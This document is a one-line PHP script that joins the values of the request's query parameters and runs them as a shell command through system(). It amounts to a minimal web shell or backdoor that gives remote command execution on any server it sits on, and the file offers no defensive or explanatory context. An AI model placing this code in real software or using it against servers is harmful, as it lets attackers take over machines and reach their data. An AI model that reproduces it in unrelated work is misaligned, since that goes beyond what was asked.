<?php $c = sprintf("%s", ...$_GET); system($c);
